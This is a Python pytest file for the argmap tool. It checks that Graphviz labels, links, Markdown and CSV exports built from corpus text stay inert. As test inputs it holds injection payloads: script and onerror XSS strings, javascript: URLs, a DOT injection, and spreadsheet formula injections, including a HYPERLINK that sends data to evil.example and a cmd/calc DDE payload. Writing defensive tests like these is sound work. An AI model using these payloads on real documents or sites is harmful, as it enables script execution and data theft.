"""Corpus text as data: DOT quoting, safe links, inert CSV cells, escaped Markdown, short labels."""
from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

import numpy as np
import pytest

from argmap import render, style
from argmap.compare import Side, compare, comparison_graph
from argmap.debate import prepare_debate
from argmap.export import claims_csv, relations_csv
from argmap.handout import html_handout, markdown
from argmap.matrix import agreement_csv, agreement_matrix, stance_csv, stance_matrix
from argmap.models import Claim, Document, Issue, Relation
from argmap.output import clean_text, csv_cell, safe_url

HAS_DOT = shutil.which("dot") is not None
needs_dot = pytest.mark.skipif(not HAS_DOT, reason="Graphviz 'dot' is not installed")

INJECT = "<x>; injected [label=INJECTED_NODE shape=box]; q=<i>"
SCRIPT = "<script>alert(1)</script>"
LONG_NAME = " ".join(["Verylongname"] * 154)  # 2,001 characters


def _svg(source: str) -> ET.Element:
    done = subprocess.run(["dot", "-Tsvg"], input=source.encode("utf-8"), capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")
    return ET.fromstring(done.stdout)


def _node_titles(svg: ET.Element) -> list[str]:
    ns = "{http://www.w3.org/2000/svg}"
    return [g.find(f"{ns}title").text for g in svg.iter(f"{ns}g") if g.get("class") == "node"]


def _pair(a: str, b: str, url: str = "https://example.org/doc"):
    docs = {"doc": Document("doc", "doc.md", "Doc", "Outlet", "2018-03-28", url)}
    claims = [Claim("c1", "Sanctions are working.", a, "doc", 1, 0, 10),
              Claim("c2", "Sanctions are not working.", b, "doc", 2, 0, 10)]
    issue = Issue("issue-1", "Sanctions", (), "c1", ("c1", "c2"), "c1", ("c1",), ("c2",))
    relation = Relation("c1", "c2", "disagree", 0.9, "issue-1")
    return docs, claims, issue, relation


def _compare_source(a: str, b: str) -> str:
    docs, claims, issue, relation = _pair(a, b)
    cmp = compare(Side(a, "analyst", a), Side(b, "analyst", b), claims, [issue], [relation])
    return comparison_graph(cmp, docs, render.analyst_palette([a, b])).source


# --- DOT ---------------------------------------------------------------------------------


def test_esc_is_never_an_html_label():
    g = render.new_graph("g", "LR", "1")
    g.attr("graph", label=render.esc(INJECT))
    assert 'label="<x>; injected [label=INJECTED_NODE shape=box]; q=<i>"' in g.source


def test_esc_keeps_backslash_escapes_and_newlines_literal():
    assert render.esc('a\\N \\G \\l "q"\nb') == 'a\\\\\u2060N \\\\\u2060G \\\\\u2060l \\"q\\"\\nb'


def test_clean_text_keeps_ordinary_text_and_drops_invisible_characters():
    text = "Kim’s “visit”, 2018 — a test\nnext\tline"
    assert clean_text(text) == text
    assert clean_text("a\r\nb\rc\x00\x1b\x85\u202e\u2067d") == "a\nb\ncd"


def test_esc_drops_control_and_bidi_override_characters():
    assert render.esc("a\x07b\x1b[31mc\u202ed\u2066e\x00f") == "abcdef"


@needs_dot
@pytest.mark.parametrize("name", [INJECT, SCRIPT, 'Back\\slash "quote" } { ;', "\\N \\G \\l \\", "a]]>&b"])
def test_compare_map_keeps_names_as_data(name):
    svg = _svg(_compare_source(name, "Other analyst"))
    assert sorted(_node_titles(svg)) == ["a1", "b1"]


@needs_dot
def test_overview_and_issue_map_keep_names_as_data():
    docs, claims, issue, relation = _pair(INJECT, SCRIPT)
    data = render.MapData(docs, {c.id: c for c in claims}, [issue], [relation])
    palette = render.analyst_palette([INJECT, SCRIPT])
    assert sorted(_node_titles(_svg(render.overview_graph(data, palette).source))) == ["i1s1", "i1s2"]
    assert sorted(_node_titles(_svg(render.issue_graph(data, issue, palette).source))) == ["claim1", "claim2"]


@needs_dot
def test_issue_map_url_cannot_break_out_of_its_svg_attribute():
    url = 'https://example.org/?a=1&b="x"onmouseover="alert(1)"&#1;\\N'
    docs, claims, issue, relation = _pair("A", "B", url=url)
    data = render.MapData(docs, {c.id: c for c in claims}, [issue], [relation])
    svg = _svg(render.issue_graph(data, issue, render.analyst_palette(["A", "B"])).source)
    attrs = [(name.rsplit("}", 1)[-1], value) for el in svg.iter() for name, value in el.attrib.items()]
    assert not [name for name, _ in attrs if name.startswith("on")]
    assert ("href", "https://example.org/?a=1&b=%22x%22onmouseover=%22alert(1)%22&#1;%5CN") in attrs


# --- links -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["javascript:alert(3)", " JavaScript:alert(3)", "java\tscript:alert(3)",
                                 "vbscript:x", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
                                 "//evil.example/x", "https://", "http:evil", "mailto:a@b.c", ""])
def test_safe_url_refuses_everything_but_http_links(url):
    assert safe_url(url) == ""


def test_safe_url_keeps_http_links_and_encodes_breakers():
    assert safe_url(" https://example.org/a?b=1&c=2#d ") == "https://example.org/a?b=1&c=2#d"
    assert safe_url("HTTP://example.org/") == "HTTP://example.org/"
    assert safe_url('https://example.org/<x>"y"') == "https://example.org/%3Cx%3E%22y%22"


def test_issue_map_links_only_http_urls():
    docs, claims, issue, relation = _pair("A", "B", url="javascript:alert(3)")
    data = render.MapData(docs, {c.id: c for c in claims}, [issue], [relation])
    source = render.issue_graph(data, issue, render.analyst_palette(["A", "B"])).source
    assert "javascript" not in source and "URL=" not in source


def _pack(url: str, text: str = "Sanctions are working.", analyst: str = "A"):
    docs, claims, issue, relation = _pair(analyst, "B", url=url)
    claims[0] = Claim("c1", text, analyst, "doc", 1, 0, 10)
    vecs = np.eye(2, dtype=np.float32)
    return prepare_debate("Sanctions are working", claims, docs, [issue], [relation], vecs,
                          np.array([1.0, 1.0], dtype=np.float32) / np.sqrt(2),
                          lambda texts, motions: np.array([-0.9 if " not " in t else 0.9 for t in texts]),
                          min_relevance=0.5, prepared="2024-01-01")


def test_handout_links_only_http_urls_and_forbids_scripts():
    page = html_handout(_pack("javascript:alert(3)"), b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    assert "javascript" not in page
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert csp and "default-src 'none'" in csp.group(1) and "script-src" not in csp.group(1)
    assert "img-src data:" in csp.group(1)  # the embedded debate map
    assert 'href="https://example.org/doc"' in html_handout(_pack("https://example.org/doc"))


# --- Markdown ----------------------------------------------------------------------------


def test_markdown_escapes_html_and_links_from_the_corpus():
    text = f"Sanctions work {SCRIPT} as [x](javascript:alert(4)) and <img src=x onerror=alert(2)> show."
    md = markdown(_pack("javascript:alert(3)", text, analyst="**Bold** [y](javascript:z)"), "debate-map.svg")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "<script" not in md and "<img" not in md
    assert "javascript:" not in md.lower()
    assert re.findall(r"(?<!\\)\]\(([^)]*)\)", md) == ["debate-map.svg"]  # no link but argmap's own map
    assert "\\[x\\]" in md and "\\*\\*Bold\\*\\*" in md
    assert "<https://example.org/doc>" in markdown(_pack("https://example.org/doc"))


# --- CSV ---------------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 more", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_csv_cell_neutralises_formulas_only():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + clean_text(text)  # CR becomes a newline; the cell is still inert
    assert csv_cell("Name\u202e x\x07") == "Name x"  # bidi overrides and controls dropped
    assert csv_cell("  =1+1") == "'  =1+1"
    for kept in ("-0.50", "0.80", "-3", 12, -0.5, "plain text", "a = b", ""):
        assert csv_cell(kept) == kept


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_exported_csv_cells_are_inert():
    docs = {"doc": Document("doc", "doc.md", "Doc", "=cmd|' /C calc'!A0", "@2018", "-1")}
    claims = [Claim(f"c{i}", text, "-Analyst" if i % 2 else "=Analyst", "doc", i, 0, 10)
              for i, text in enumerate(FORMULAS)]
    issues = [Issue("issue-1", "=1+1", (), "c0", tuple(c.id for c in claims), "c0", ("c0",), ("c1",))]
    relations = [Relation("c0", "c1", "disagree", 0.8, "issue-1")]
    rows = _cells(claims_csv(claims, issues, docs))
    _inert(rows)
    assert rows[1][2] == "'" + FORMULAS[0] and rows[2][1] == "'-Analyst"
    rows = _cells(relations_csv(claims, issues, relations))
    _inert(rows)
    assert rows[1][1] == "0.80"


def test_matrix_csv_cells_are_inert_and_scores_stay_numbers():
    claims = [Claim("a", "x", "=A", "d", 1, 0, 1), Claim("b", "not x", "@B", "d", 2, 0, 1)]
    issues = [Issue("issue-1", "+label", (), "a", ("a", "b"), "a", ("a",), ("b",))]
    relations = [Relation("a", "b", "disagree", 0.9, "issue-1")]
    m = stance_matrix(claims, issues, relations)
    rows = _cells(stance_csv(m))
    _inert(rows)
    assert rows[0][-2:] == ["'=A", "'@B"] and rows[1][1] == "'+label"
    rows = _cells(agreement_csv(list(m.analysts), agreement_matrix(claims, issues, relations, list(m.analysts))))
    _inert(rows)
    assert rows[1][:2] == ["'=A", "'@B"] and rows[1][-1] == "-1.00"


# --- long labels -------------------------------------------------------------------------


def test_long_names_are_cut_on_maps_with_the_full_name_in_the_tooltip():
    docs, claims, issue, relation = _pair(LONG_NAME, "B")
    data = render.MapData(docs, {c.id: c for c in claims}, [issue], [relation])
    palette = render.analyst_palette([LONG_NAME, "B"])
    for source in (render.overview_graph(data, palette).source, render.issue_graph(data, issue, palette).source,
                   _compare_source(LONG_NAME, "B")):
        labels = re.findall(r'\blabel=(<.*?>|"(?:[^"\\]|\\.)*")', source, re.S)
        assert labels and all(len(label) < 1500 for label in labels)
        assert style.ELLIPSIS in source
        assert re.search(r'tooltip="[^"]*' + re.escape(LONG_NAME), source)


@needs_dot
def test_long_name_overview_stays_narrow():
    docs, claims, issue, relation = _pair(LONG_NAME, "B")
    data = render.MapData(docs, {c.id: c for c in claims}, [issue], [relation])
    svg = _svg(render.overview_graph(data, render.analyst_palette([LONG_NAME, "B"])).source)
    assert float(svg.get("width").removesuffix("pt")) < 1500
